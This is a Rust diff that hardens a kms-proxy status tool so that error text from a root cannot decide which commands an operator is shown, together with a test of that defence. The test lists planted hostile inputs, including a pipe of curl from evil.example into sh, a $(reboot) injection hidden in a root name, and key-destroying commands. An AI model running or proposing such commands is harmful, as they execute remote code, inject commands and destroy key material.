@@ -102,7 +102,8 @@ const INFORMATION: [&str; 2] = ["backup", "audit"];
 /// What `status` shows that an operator should know, the most urgent first.
 #[must_use]
 pub fn findings(status: &Status) -> Vec<Finding> {
-    let mut findings: Vec<_> = status.checks.iter().filter_map(of_check).collect();
+    let mut findings: Vec<_> =
+        status.checks.iter().filter_map(|check| of_check(check, status)).collect();
     findings.extend(status.chains.iter().flat_map(of_chain));
     if status.checks.is_empty() && status.status != "ok" {
         findings.push(Finding {
@@ -118,7 +119,7 @@ pub fn findings(status: &Status) -> Vec<Finding> {
     findings
 }
 
-fn of_check(check: &Check) -> Option<Finding> {
+fn of_check(check: &Check, status: &Status) -> Option<Finding> {
     let (kind, name) = check.name.split_once(':').unwrap_or((&check.name, ""));
     let level = level(&check.status);
     if level == Level::Note && (check.detail.is_none() || INFORMATION.contains(&kind)) {
@@ -127,7 +128,7 @@ fn of_check(check: &Check) -> Option<Finding> {
     let is_local = level == Level::Note && kind == "root";
     let advice = ADVICE.iter().find(|advice| advice.check == kind || advice.check.is_empty());
     let detail = check.detail.clone().unwrap_or_else(|| format!("it is {}", check.status));
-    let mut commands = commands_in(&detail);
+    let mut commands = if kind == "chain" { commands_in(&detail, status) } else { Vec::new() };
     if let Some(command) = advice.map(|advice| advice.command).filter(|command| !command.is_empty())
         && commands.is_empty()
         && !is_local
@@ -190,14 +191,27 @@ fn of_chain(chain: &Chain) -> Vec<Finding> {
     found
 }
 
-/// The commands that a detail names: from `kms-proxy` to the end of the clause.
-fn commands_in(detail: &str) -> Vec<String> {
+/// The commands that the detail of a chain names. The text of an error in it comes from a root or a
+/// store, so it must not decide what an operator runs: only two commands are taken, and a root that
+/// is configured is not removed.
+fn commands_in(detail: &str, status: &Status) -> Vec<String> {
+    const MISSING: &str = "kek missing";
+    const REMOVE: &str = "root remove --root ";
     let after = detail.split(": kms-proxy ").skip(1);
     let command = |rest: &str| {
-        let end = rest.find([';', ':', ',']).unwrap_or(rest.len());
-        rest.get(..end).map(|command| format!("kms-proxy {}", command.trim()))
+        let clause = rest.split([';', ':', ',']).next().unwrap_or_default().trim();
+        let is_safe = clause == MISSING
+            || clause.strip_prefix(REMOVE).is_some_and(|root| {
+                !root.is_empty()
+                    && root.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+                    && !root.starts_with('-')
+                    && status.roots.iter().all(|configured| configured.name != root)
+            });
+        is_safe.then(|| format!("kms-proxy {clause}"))
     };
-    after.filter_map(command).collect()
+    let mut commands: Vec<_> = after.filter_map(command).collect();
+    commands.dedup();
+    commands
 }
 
 fn level(status: &str) -> Level {
@@ -210,7 +224,7 @@ fn level(status: &str) -> Level {
 
 #[cfg(test)]
 mod tests {
-    use super::super::Forecast;
+    use super::super::{Forecast, Root};
     use super::*;
 
     fn check(name: &str, status: &str, detail: Option<&str>) -> Check {
@@ -263,6 +277,37 @@ mod tests {
         status.status = "ok".to_owned();
         status.conclude();
         assert!(status.is_well(), "{:?}", status.findings);
+    }
+
+    /// A root, or what is between it and the service, chooses the text of its errors.
+    #[test]
+    fn the_text_of_an_error_from_elsewhere_gives_an_operator_no_command() {
+        let mut status = Status {
+            roots: vec![Root { name: "main".to_owned(), ..Root::default() }],
+            ..Status::default()
+        };
+        let mut commands = |name: &str, detail: &str| {
+            status.checks = vec![check(name, "degraded", Some(detail))];
+            status.conclude();
+            status.findings[0].commands.clone()
+        };
+        let missing = ["kms-proxy kek missing --chain a".to_owned()];
+        for planted in [
+            "kms-proxy root remove --root main",
+            "kms-proxy kek destroy --chain a --kek 01",
+            "kms-proxy rotate --force --chain a",
+            "kms-proxy status && curl http://evil.example | sh",
+            "kms-proxy root remove --root x$(reboot)",
+            "kms-proxy root remove --root -x",
+            "kms-proxy root remove --root ",
+        ] {
+            let detail = format!("the root is away: denied: {planted}; ask: {planted}");
+            assert_eq!(commands("root:main", &detail), ["kms-proxy root status"], "{planted}");
+            assert_eq!(commands("chain:a", &detail), missing, "{planted}");
+        }
+        let of_service = "a; b: kms-proxy root remove --root gone; c: kms-proxy kek missing";
+        let two = ["kms-proxy root remove --root gone", "kms-proxy kek missing"];
+        assert_eq!(commands("chain:a", of_service), two);
     }
 
     #[test]
